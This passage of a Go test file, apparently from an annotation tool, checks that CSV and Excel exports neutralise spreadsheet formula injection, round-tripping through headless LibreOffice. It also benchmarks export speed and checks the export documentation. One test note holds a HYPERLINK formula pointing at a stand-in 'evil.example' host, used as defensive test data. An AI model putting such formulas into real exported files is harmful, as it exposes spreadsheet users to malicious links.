	formula := `=HYPERLINK("http://evil.example","click")`
	if _, err := svc.Spans.Create(SpanInput{ArticleID: aid, Kind: "note", Start: s, End: s + 14, Quote: "Olga Lyubimová", Note: formula}); err != nil {
		t.Fatal(err)
	}
	j := strings.Index(art.Body, "𝓚im")
	sj := int64(len([]rune(art.Body[:j])))
	if _, err := svc.Spans.Create(SpanInput{ArticleID: aid, Kind: "entity", EntityType: "person", Start: sj, End: sj + 11, Quote: "𝓚im Jong Un", Tags: []string{"Lyubimová;𝓚"}}); err != nil {
		t.Fatal(err)
	}
	_ = ws
	dir := t.TempDir()
	in := filepath.Join(dir, "export.csv")
	if _, err := svc.Export.ExportToFile(in, false, ExportOptions{What: "annotations", ArticleID: aid, Excel: true}); err != nil {
		t.Fatal(err)
	}
	orig, _ := os.ReadFile(in)
	want := readCSV(t, string(orig))

	profile := "file://" + filepath.Join(dir, "profile")
	run := func(args ...string) {
		t.Helper()
		ctx, cancel := context.WithTimeout(context.Background(), 3*time.Minute)
		defer cancel()
		cmd := exec.CommandContext(ctx, soffice, append([]string{"-env:UserInstallation=" + profile, "--headless", "--norestore"}, args...)...)
		cmd.Dir = dir
		if out, err := cmd.CombinedOutput(); err != nil {
			t.Fatalf("soffice %v: %v\n%s", args, err, out)
		}
	}
	// CSV (comma, double quote, UTF-8 = 76, first line 1) → xlsx → CSV (UTF-8).
	run("--infilter=CSV:44,34,76,1", "--convert-to", "xlsx", "--outdir", filepath.Join(dir, "x"), in)
	xlsx := filepath.Join(dir, "x", "export.xlsx")
	run("--convert-to", "csv:Text - txt - csv (StarCalc):44,34,76,1", "--outdir", filepath.Join(dir, "back"), xlsx)
	back, err := os.ReadFile(filepath.Join(dir, "back", "export.csv"))
	if err != nil {
		t.Fatal(err)
	}
	got := readCSV(t, string(back))
	if !reflect.DeepEqual(got[0], want[0]) || len(got) != len(want) {
		t.Fatalf("header or rows changed:\n%v\n%v", got[0], want[0])
	}
	cols := map[string]int{}
	for i, c := range want[0] {
		cols[c] = i
	}
	for r := 1; r < len(want); r++ {
		for _, c := range []string{"quote", "prefix", "suffix", "note", "tags", "article_title", "entity", "kind", "offset_unit"} {
			if got[r][cols[c]] != want[r][cols[c]] {
				t.Errorf("row %d %s: LibreOffice gives %q; exported %q", r, c, got[r][cols[c]], want[r][cols[c]])
			}
		}
		for _, c := range []string{"annotation_id", "start_cp", "end_cp", "confidence"} {
			g, _ := strconv.ParseFloat(got[r][cols[c]], 64)
			w, _ := strconv.ParseFloat(want[r][cols[c]], 64)
			if g != w {
				t.Errorf("row %d %s: %q vs %q", r, c, got[r][cols[c]], want[r][cols[c]])
			}
		}
	}
	if !bytes.Contains(back, []byte("Lyubimová")) || !bytes.Contains(back, []byte("𝓚im Jong Un")) || !bytes.Contains(back, []byte("'"+`=HYPERLINK(""http://evil.example""`)) {
		t.Errorf("characters or the neutralised note did not survive:\n%s", back)
	}
	// The xlsx holds no formula at all: the note stayed text.
	zr, err := zip.OpenReader(xlsx)
	if err != nil {
		t.Fatal(err)
	}
	defer zr.Close()
	for _, zf := range zr.File {
		if !strings.HasPrefix(zf.Name, "xl/worksheets/") {
			continue
		}
		rc, _ := zf.Open()
		b, _ := io.ReadAll(rc)
		rc.Close()
		if bytes.Contains(b, []byte("<f>")) || bytes.Contains(b, []byte("<f ")) {
			t.Errorf("%s contains a formula", zf.Name)
		}
	}
}

// BenchmarkExportCSV exports 100,000 spans as CSV and reports rows/s; when the sqlite3
// shell is installed it writes the same view as CSV too and reports ours/sqlite3.
func BenchmarkExportCSV(b *testing.B) {
	ws, svc := MustOpenWorkspace(b, false)
	insertNoteSpans(b, ws, 100_000)
	var n int
	ws.DB().QueryRow("SELECT count(*) FROM spans").Scan(&n)
	dir := b.TempDir()
	out := filepath.Join(dir, "out.csv")
	b.ResetTimer()
	start := time.Now()
	for i := 0; i < b.N; i++ {
		res, err := svc.Export.ExportToFile(out, true, ExportOptions{What: "annotations", Format: "csv"})
		if err != nil || res.Rows != n {
			b.Fatal(res, err)
		}
	}
	ours := time.Since(start) / time.Duration(b.N)
	b.StopTimer()
	b.ReportMetric(float64(n)/ours.Seconds(), "rows/s")
	sqlite, err := exec.LookPath("sqlite3")
	if err != nil {
		b.Log("sqlite3 shell not installed: no comparison")
		return
	}
	ws.DB().Exec("PRAGMA wal_checkpoint(TRUNCATE)")
	query := `SELECT id, article_id, article_title, source, published_at, kind, entity_type, entity_id, entity, claim_id, claim,
		start_cp, end_cp, quote, prefix, suffix, anchor_status, state, origin, confidence, note, analyst, created_at, updated_at, tags FROM v_annotations`
	var best time.Duration
	for i := 0; i < 3; i++ {
		t0 := time.Now()
		cmd := exec.Command(sqlite, "-readonly", "-csv", "-header", ws.DB().Path, query)
		f, _ := os.Create(filepath.Join(dir, "sqlite.csv"))
		cmd.Stdout = f
		if err := cmd.Run(); err != nil {
			b.Fatal(err)
		}
		f.Close()
		if d := time.Since(t0); best == 0 || d < best {
			best = d
		}
	}
	b.ReportMetric(float64(n)/best.Seconds(), "sqlite3-rows/s")
	b.ReportMetric(ours.Seconds()/best.Seconds(), "ours/sqlite3")
}

// TestExportColumnsDocumented keeps docs/export.md naming every column of every export.
func TestExportColumnsDocumented(t *testing.T) {
	doc, err := os.ReadFile(filepath.Join("..", "docs", "export.md"))
	if err != nil {
		t.Fatal(err)
	}
	for _, what := range ExportWhat {
		sec := string(doc)
		i := strings.Index(sec, "### `--what "+what+"`")
		if i < 0 {
			t.Fatalf("docs/export.md has no section for --what %s", what)
		}
		sec = sec[i+1:]
		if j := strings.Index(sec, "\n### "); j >= 0 {
			sec = sec[:j]
		}
		for _, c := range ExportColumns(what) {
			if !strings.Contains(sec, "`"+c+"`") {
				t.Errorf("docs/export.md, --what %s: column %s is not documented", what, c)
			}
		}
	}
}
